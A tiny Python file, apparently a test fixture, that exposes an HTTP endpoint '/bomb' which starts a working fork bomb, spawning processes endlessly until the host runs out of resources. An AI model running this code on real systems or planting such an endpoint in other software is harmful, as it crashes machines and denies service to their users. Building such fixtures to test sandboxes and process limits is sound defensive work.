"""Starts a fork bomb on request."""

import os
import time

from _serve import serve


def bomb(q, body):
    if os.fork() == 0:
        while True:
            try:
                os.fork()
            except OSError:
                time.sleep(0.01)
    return "boom"


serve({"/bomb": bomb})
